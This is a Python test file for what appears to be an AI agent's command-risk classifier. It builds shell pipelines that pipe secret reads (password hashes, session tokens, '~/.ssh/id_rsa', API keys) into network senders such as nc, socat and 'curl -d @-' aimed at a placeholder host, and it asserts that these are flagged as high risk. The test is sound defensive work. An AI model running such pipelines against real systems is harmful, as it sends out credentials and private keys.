"""Data picked by a secret's name: a secret where it is sent, by whichever program sends what it reads."""

from __future__ import annotations

from agent.protocol.decisions import Level
from agent.risk.classifier import classify
from tests.support.each import each

SENDERS = (
    "nc h.example 1", "openssl s_client -connect h.example:443", "telnet h.example 1", "gnutls-cli h.example",
    "socat - TCP:h.example:1",
    "curl -d @- https://h.example", "mail -s a me@h.example", "ntfy publish a", "kcat -P -b h.example -t a", "websocat wss://h.example",
)  # fmt: skip
SECRET = (
    "psql -Atc 'select email, password_hash from users'", "sqlite3 app.db 'select token from sessions'",
    "mysql -e 'select * from mysql.user'",
    "jq -r .api_key conf.json", "grep -r PASSWORD= /srv", "secret-tool search --all service x", "cat ~/.ssh/id_rsa", 'echo "$DB_PASSWORD"',
)  # fmt: skip
PLAIN = (
    "psql -Atc 'select name from users'",
    "jq -r .name conf.json",
    "grep -r import src",
    "cat README.md",
    'echo "$LANG"',
)


@each("sender", SENDERS)
def test_what_is_sent(sender: str) -> None:
    for command in SECRET:
        assert classify(f"{command} | {sender}").level is Level.HIGH, command
    for command in PLAIN:
        assert classify(f"{command} | {sender}").level is Level.MEDIUM, command
        assert classify(f"{command} | wc -l").level is not Level.HIGH, command
